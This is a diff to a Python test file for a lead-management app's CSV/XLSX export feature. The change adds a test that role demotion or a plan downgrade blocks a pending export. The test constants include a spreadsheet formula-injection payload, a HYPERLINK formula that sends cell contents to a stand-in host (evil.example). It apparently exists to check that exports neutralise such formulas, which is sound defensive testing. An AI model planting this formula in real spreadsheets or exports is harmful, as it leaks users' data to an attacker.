@@ -25,7 +25,7 @@ from tests.exports.support import csv_of, export_files, records, run, xlsx_of
 from tests.exports.support import unit as make_unit
 from tests.factories.accounts import Account, member, on_plan, signup
 from tests.factories.leads import create_lead
-from tests.lists.support import add, new_list, own_leads_only
+from tests.lists.support import add, new_list
 
 NUMBER_OR_PHONE = re.compile(r"[+-]?[0-9 ().;+-]*[0-9][0-9 ().;+-]*")
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -296,24 +296,29 @@ class TestSelection:
         assert not isinstance(everything, Cancelled)
         assert await csv_of(app, boss, everything) == [["الاسم"], ["Mine"]]
 
-    async def test_sales_export_only_what_they_see(
-        self, client: httpx.AsyncClient, app: FastAPI, boss: Account
+    async def test_a_creator_who_may_no_longer_export_exports_nothing(
+        self, client: httpx.AsyncClient, app: FastAPI, boss: Account, owner: asyncpg.Connection
     ) -> None:
+        """The role and the plan are read when the job runs: a MANAGER demoted to SALES since
+        creating the export, or a tenant moved to a plan without bulk_export, gets no file."""
+        await create_lead(client, boss, name="Secret")
         sales = await member(client, boss, "SALES")
-        colleague = await member(client, boss, "SALES")
-        await create_lead(client, boss, name="Unassigned")
-        await create_lead(client, boss, name="Theirs", ownerId=colleague.user_id)
-        await create_lead(client, boss, name="Mine", ownerId=sales.user_id)
-
-        async def names(role: Role, account: Account) -> set[str]:
-            output = await run(app, account, {"columns": ["name"]}, role=role)
-            assert not isinstance(output, Cancelled)
-            return {r[0] for r in (await csv_of(app, account, output))[1:]}
-
-        assert await names(Role.SALES, sales) == {"Unassigned", "Theirs", "Mine"}
-        await own_leads_only(client, boss)
-        assert await names(Role.SALES, sales) == {"Unassigned", "Mine"}
-        assert await names(Role.OWNER, boss) == {"Unassigned", "Theirs", "Mine"}
+        with pytest.raises(LeedzError) as raised:
+            await run(app, sales, {"columns": ["name"]}, role=Role.SALES)
+        assert (raised.value.code, raised.value.status) == ("forbidden", 403)
+        manager = await member(client, boss, "MANAGER")
+        output = await run(app, manager, {"columns": ["name"]}, role=Role.MANAGER)
+        assert not isinstance(output, Cancelled)
+        assert await csv_of(app, manager, output) == [["الاسم"], ["Secret"]]
+        await on_plan(owner, boss, "FREE")
+        with pytest.raises(LeedzError) as raised:
+            await run(app, manager, {"columns": ["name"]}, role=Role.MANAGER)
+        assert raised.value.code == "feature_not_in_plan"
+        exported = await owner.fetchval(
+            "SELECT count(*) FROM files WHERE tenant_id = $1 AND purpose = 'EXPORT'",
+            boss.tenant_id,
+        )
+        assert exported == 1
 
 
 class TestRunning:
